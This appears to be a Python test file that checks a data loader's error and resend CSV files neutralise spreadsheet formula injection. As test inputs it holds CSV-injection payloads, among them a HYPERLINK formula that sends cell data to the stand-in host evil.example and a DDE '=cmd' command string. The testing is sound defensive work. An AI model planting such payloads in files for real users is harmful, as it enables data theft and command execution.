"""Error files: the rejects of a job run as a CSV a user can open in a spreadsheet safely."""

import csv

import duckdb

from gs_assets.engine.error_files import write_error_file, write_failure_file

from tests.config_builder import config_yaml, file_job

JOBS = config_yaml("test-bucket", {"users": file_job("users", "user", ["email"], {"Name": "name", "Email": "email"},
                                                   operation="upsert")})

# Values a spreadsheet would run as a formula (OWASP CSV injection), each on a rejected row.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def _quoted(v: str) -> str:
    return '"' + v.replace('"', '""') + '"'


def test_error_file_neutralises_formulas_and_the_warehouse_keeps_them(harness, tmp_path):
    h = harness(JOBS)
    rows = [f"{_quoted(v)},not-an-email-{i},{_quoted(v)}" for i, v in enumerate(FORMULAS)]
    rows += ["-5,also-bad,+4.5e3", "Ann,ann@x.io,ok"]  # plain numbers stay numbers; a good row loads
    _, res = h.load("users", "Name,Email,=cmd|' /C calc'!A0\n" + "\n".join(rows) + "\n")
    assert res.rejected == len(FORMULAS) + 1
    # The warehouse keeps what was sent.
    kept = h.rows(f"SELECT original_values->>'Name', original_values->>'=cmd|'' /C calc''!A0' FROM gs_ops.rejects "
                  f"WHERE job_run_id = '{res.job_run_id}' ORDER BY line_number")
    assert kept == [(v, v) for v in FORMULAS] + [("-5", "+4.5e3")]
    path = str(tmp_path / "errors.csv")
    with h.warehouse.connect() as con:
        header = ["Name", "Email", "=cmd|' /C calc'!A0"]
        assert write_error_file(con, res.job_run_id, header, path) == len(FORMULAS) + 1
    with open(path, newline="", encoding="utf-8") as fh:
        got = list(csv.reader(fh))
    assert got[0] == ["line_number", "Name", "Email", "'=cmd|' /C calc'!A0", "unparsed_row", "reasons"]
    for row, v in zip(got[1:], FORMULAS):
        assert row[1] == "'" + v and row[3] == "'" + v
    assert got[-1][1:4] == ["-5", "also-bad", "+4.5e3"]
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in got:
        for cell in row:
            assert not cell.startswith(dangerous) or cell in ("-5", "+4.5e3"), cell
    # Every field is quoted, so a spreadsheet that splits on ';' or tab cannot start a cell mid-value.
    text = open(path, encoding="utf-8", newline="").read()
    assert all(line.startswith('"') for line in text.split("\n") if line)


def test_failure_file_neutralises_the_message(tmp_path):
    path = str(tmp_path / "failed.csv")
    write_failure_file(path, "=HYPERLINK(\"http://evil.example\") is not a header")
    with open(path, newline="", encoding="utf-8") as fh:
        got = list(csv.reader(fh))
    assert got == [["line_number", "reasons"], ["", "'=HYPERLINK(\"http://evil.example\") is not a header"]]


def test_the_resend_file_has_the_sent_columns_and_values_as_sent(harness, tmp_path):
    # For sending again: a neutralised `'=...` would come back with its quote, so nothing is changed.
    h = harness(JOBS)
    _, res = h.load("users", 'Name,Email\n"=1+1",not-an-email\n"x,y",bad\nAnn,ann@x.io\n"broken,row\n')
    path = str(tmp_path / "again.csv")
    from gs_assets.engine.error_files import write_resend_file
    with h.warehouse.connect() as con:
        assert write_resend_file(con, res.job_run_id, ["Name", "Email"], path) == (2, 1)
    with open(path, newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [["Name", "Email"], ["=1+1", "not-an-email"], ["x,y", "bad"]]
